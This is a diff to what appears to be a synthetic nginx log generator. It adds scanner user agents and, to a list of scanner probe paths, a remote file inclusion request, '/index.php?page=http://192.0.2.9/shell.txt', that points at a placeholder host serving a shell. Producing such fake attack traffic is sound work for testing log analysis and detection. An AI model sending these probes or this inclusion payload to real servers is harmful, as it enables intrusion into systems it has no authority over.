@@ -248,7 +248,9 @@ PROBES = (
     "/wp-content/plugins/wp-file-manager/readme.txt",
     "/administrator/index.php",
     "/solr/admin/info/system?wt=json",
+    "/index.php?page=http://192.0.2.9/shell.txt",
 )
+ROBOTS = (*("Mozilla/5.0 zgrab/0.x",) * 7, "Mozilla/5.0 Jorgee")
 PATHS = ("/", "/static/app.{:05d}.js", "/img/{:05d}.webp", "/article/{:05d}", "/api/v1/items/{:05d}?page=2")
 STATUSES = (200, 200, 200, 200, 304, 301, 404)
 
@@ -275,7 +277,7 @@ def nginx(plan: Plan) -> Iterator[str]:
 def _probe(rng: random.Random, ip: str, stamp: str) -> str:
     kind = rng.randrange(10)
     if kind < 6:
-        return f'{ip} - - [{stamp}] "GET {rng.choice(PROBES)} HTTP/1.1" 404 153 "-" "Mozilla/5.0 zgrab/0.x"'
+        return f'{ip} - - [{stamp}] "GET {rng.choice(PROBES)} HTTP/1.1" 404 153 "-" "{rng.choice(ROBOTS)}"'
     if kind < 8:
         return f'{ip} - admin [{stamp}] "GET /admin/ HTTP/1.1" 401 179 "-" "curl/7.88.1"'
     if kind < 9:
